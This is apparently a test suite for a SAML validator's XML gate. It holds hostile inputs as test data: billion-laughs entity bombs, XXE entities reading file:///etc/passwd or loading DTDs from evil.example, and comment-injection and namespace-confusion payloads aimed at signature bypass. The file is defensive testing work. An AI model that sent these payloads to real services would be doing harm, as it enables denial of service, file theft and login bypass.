import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { assertRefused, startValidator } from '../testing/validator.ts'
import { readXml } from '../xml.ts'
import { messageBounds, XmlRefused } from '../xml-gate.ts'

const validator = await startValidator()
const right = validator.response({ attributes: { groups: ['users'] } })

describe('documents that XML parsers read differently, or that are expensive to parse (A26, A27)', () => {
  it('refuses entity bombs, external entities and every other document type', () => {
    const bomb = Array.from(
      { length: 20 },
      (_, level) => `<!ENTITY a${level + 1} "&a${level};&a${level};&a${level};">`,
    )
    for (const [what, type] of [
      ['billion laughs', `<!DOCTYPE x [<!ENTITY a0 "ha">${bomb.join('')}]>`],
      ['external entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
      ['parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>'],
      ['external subset', '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">'],
      ['plain', '<!DOCTYPE x>'],
      ['default attribute', '<!DOCTYPE x [<!ATTLIST Assertion ID ID "_evil">]>'],
    ] as const) {
      assertRefused(validator, `${type}${right}`, /document type/, what)
      assertRefused(
        validator,
        `<?xml version="1.0"?>\n${type}${right.replace('>ann<', '>&e;<')}`,
        /document type/,
        what,
      )
    }
    assertRefused(validator, `<!doctype x>${right}`, /malformed/, 'in small letters')
    assertRefused(validator, `<!ENTITY e "x">${right}`, /malformed/, 'an entity alone')
    for (const entity of [
      '&e;',
      '&nbsp;',
      '&',
      '&amp',
      '&#;',
      '&#x;',
      '&#0;',
      '&#x0;',
      '&#xFFFF;',
      '&#x110000;',
      '&#9999999;',
      '&#xD800;',
    ])
      assertRefused(validator, right.replace('>ann<', `>${entity}<`), /entity|character/, entity)
  })

  it('refuses comments, CDATA and processing instructions in NameID, in attributes, and anywhere else (CVE-2017-11427)', () => {
    for (const [markup, reason] of [
      ['<!---->', /comment/],
      ['<!-- x -->', /comment/],
      ['<![CDATA[n]]>', /CDATA/],
      ['<?x y?>', /processing instruction/],
      ['<?xml version="1.0"?>', /processing instruction/],
    ] as const) {
      for (const xml of [
        right.replace('>ann<', `>an${markup}n<`),
        right.replace('>users<', `>us${markup}ers<`),
        right.replace('<saml:Subject>', `${markup}<saml:Subject>`),
        ` ${markup}${right}`,
        right + markup,
      ])
        assertRefused(validator, xml, reason, markup)
      const signedSo = validator.response({ nameId: 'ann@evil' }).replace('ann@evil', `ann${markup}@evil`)
      assertRefused(validator, signedSo, reason, `signed without ${markup}`)
    }
  })

  it('refuses undeclared, reserved, empty and repeated namespaces, and other namespaces with the same names', () => {
    const assertion = 'urn:oasis:names:tc:SAML:2.0:assertion'
    for (const [what, xml] of [
      [
        'undeclared prefix',
        right.replace('<saml:Subject>', '<evil:Subject>').replace('</saml:Subject>', '</evil:Subject>'),
      ],
      ['undeclared prefix of an attribute', right.replace('<samlp:Status>', '<samlp:Status evil:x="y">')],
      ['prefix xmlns', right.replace('<samlp:Status>', '<samlp:Status xmlns:xmlns="urn:x">')],
      ['prefix xml', right.replace('<samlp:Status>', '<samlp:Status xmlns:xml="urn:x">')],
      [
        'the namespace of xml',
        right.replace('<samlp:Status>', '<samlp:Status xmlns:x="http://www.w3.org/XML/1998/namespace">'),
      ],
      [
        'the namespace of xmlns',
        right.replace('<samlp:Status>', '<samlp:Status xmlns:x="http://www.w3.org/2000/xmlns/">'),
      ],
      ['prefix taken back', right.replace('<samlp:Status>', '<samlp:Status xmlns:samlp="">')],
      ['a reference in a namespace', right.replace('<samlp:Status>', '<samlp:Status xmlns:x="urn:&#120;">')],
      ['an attribute twice', right.replace('<samlp:Status>', '<samlp:Status a="1" a="2">')],
      [
        'an attribute twice by two prefixes',
        right.replace('<samlp:Status>', '<samlp:Status xmlns:p="urn:x" xmlns:q="urn:x" p:a="1" q:a="2">'),
      ],
      ['two colons', right.replace('<samlp:Status>', '<samlp:Status a:b:c="1">')],
      ['an element xmlns:x', right.replace('<samlp:Status>', '<xmlns:x/><samlp:Status>')],
      ['another namespace of the assertion', right.replaceAll(assertion, `${assertion}x`)],
      ['another namespace of the signature', right.replaceAll('http://www.w3.org/2000/09/xmldsig#', 'urn:x')],
      [
        'saml means something else inside',
        right.replace('<saml:Subject>', '<saml:Subject xmlns:saml="urn:x">'),
      ],
      ['no namespace', right.replaceAll(/<(\/?)saml:/g, '<$1')],
    ] as const)
      assertRefused(validator, xml, /./, what)
  })

  it('accepts equivalent declarations of the same prefixes: the signed content is the same', () => {
    const moved = right.replace(/<saml:Assertion xmlns:saml="[^"]*"/, '<saml:Assertion')
    const renamed = right.replace('<samlp:Response ', '<samlp:Response xmlns:unused="urn:x" xmlns="urn:y" ')
    for (const xml of [
      moved,
      renamed,
      `\ufeff${right}`,
      `<?xml version="1.0" encoding="utf-8"?>\r\n${right}\n`,
    ])
      assert.equal(typeof validator.validate(xml), 'object', xml.slice(0, 200))
  })

  it('refuses 100,000 attributes, of one element and of many, and 100,000 namespaces', () => {
    const attributes = (count: number, name = 'a'): string =>
      Array.from({ length: count }, (_, index) => ` ${name}${index}=""`).join('')
    const many = right.replace('<samlp:Status>', `<samlp:Status${attributes(20_000)}>`)
    assertRefused(validator, many, /attributesOfElement/, 'of one element')
    const spread = `<samlp:Extensions>${`<x${attributes(30)}/>`.repeat(800)}</samlp:Extensions>`
    assertRefused(
      validator,
      right.replace('<samlp:Status>', `${spread}<samlp:Status>`),
      /attributes/,
      'of many elements',
    )
    assertRefused(
      validator,
      right.replace('<samlp:Status>', `<samlp:Status${attributes(100_000)}>`),
      /longer/,
      '100,000',
    )
    const declared = right.replace('<samlp:Status>', `<samlp:Status${attributes(10_000, 'xmlns:n')}>`)
    assertRefused(validator, declared, /attributesOfElement/, 'namespaces')
  })

  it('refuses deep nesting, many elements, long names and long texts', () => {
    for (const depth of [33, 1000, 20_000]) {
      const xml = right.replace(
        '<samlp:Status>',
        `${'<x>'.repeat(depth)}${'</x>'.repeat(depth)}<samlp:Status>`,
      )
      assertRefused(validator, xml, /depth/, String(depth))
    }
    assertRefused(
      validator,
      right.replace('<samlp:Status>', `${'<x/>'.repeat(3000)}<samlp:Status>`),
      /elements/,
      'elements',
    )
    assertRefused(
      validator,
      right.replace('<samlp:Status>', `<${'x'.repeat(1000)}/><samlp:Status>`),
      /malformed/,
      'a name',
    )
    assertRefused(validator, right + ' '.repeat(messageBounds.length), /longer/, 'blanks')
    assertRefused(validator, '<'.repeat(100_000), /malformed/, 'brackets')
    assertRefused(validator, `<x${' '.repeat(200_000)}`, /malformed/, 'an open tag')
    assertRefused(validator, `<x a="${'a'.repeat(200_000)}`, /malformed/, 'an open value')
    assertRefused(validator, `<x>${'&amp;'.repeat(40_000)}`, /not closed/, 'references')
    assertRefused(validator, `${'<!--'.repeat(50_000)}`, /comment/, 'open comments')
  })

  it('accepts a document at the limits of the gate, and refuses one beyond them', () => {
    const element = `<x${Array.from({ length: 2 }, (_, index) => ` a${index}="${'y'.repeat(20)}"`).join('')}/>`
    const withElements = (count: number) =>
      right.replace(
        '<samlp:Status>',
        `<samlp:Extensions>${element.repeat(count)}</samlp:Extensions><samlp:Status>`,
      )
    assert.equal(typeof validator.validate(withElements(1900)), 'object')
    assertRefused(validator, withElements(2001), /attributes/, 'elements with attributes')
  })

  it('refuses other encodings, characters that XML does not allow, and texts that are not XML', () => {
    for (const [what, xml] of [
      ['UTF-16 by name', `<?xml version="1.0" encoding="UTF-16"?>${right}`],
      ['UTF-7 by name', `<?xml version="1.0" encoding="UTF-7"?>${right}`],
      ['XML 1.1', `<?xml version="1.1"?>${right}`],
      ['NUL', right.replace('>ann<', '>an\u0000n<')],
      ['control', right.replace('>ann<', '>an\u0001n<')],
      ['U+FFFF', right.replace('>ann<', '>an\uffffn<')],
      ['two roots', right + right],
      ['text before', `x${right}`],
      ['text after', `${right}x`],
      ['not closed', right.slice(0, -5)],
      ['crossed', '<a><b></a></b>'],
      ['text', 'ann'],
      ['JSON', '{"sub":"ann"}'],
      ['HTML', '<html><body>error</html>'],
      ['an attribute without quotes', '<x a=b/>'],
      ['an attribute without blank', '<x a="b"c="d"/>'],
      ['a bracket in a value', '<x a="<"/>'],
      ['a name in other letters', '<saml:\u0130D xmlns:saml="x"/>'],
      ['the end of CDATA', right.replace('>ann<', '>an]]>n<')],
    ] as const)
      assertRefused(validator, xml, /./, what)
    const field = encodeURIComponent(Buffer.from(right, 'utf16le').toString('base64'))
    assert.notEqual(field, '')
  })

  it('the parser agrees with the gate on every document that passes it; only XmlRefused is thrown', () => {
    const token = fc.constantFrom(
      '<a>',
      '</a>',
      '<b x="1">',
      '</b>',
      '<a/>',
      ' ',
      'x',
      '&lt;',
      '&#65;',
      '<',
      '>',
      '"',
      "'",
      '=',
      'xmlns:p="u"',
      '<p:a xmlns:p="u">',
      '</p:a>',
      ']]>',
      '<!--',
      '-->',
      '<?',
      '?>',
    )
    fc.assert(
      fc.property(fc.array(token, { maxLength: 12 }), (tokens) => {
        const text = tokens.join('')
        try {
          assert.ok(readXml(text).root)
        } catch (error) {
          assert.ok(error instanceof XmlRefused, `${text}: ${error}`)
          assert.notEqual(error.message, 'it is not well-formed', `the gate accepted ${text}`)
        }
      }),
      { numRuns: 2000 },
    )
  })
})
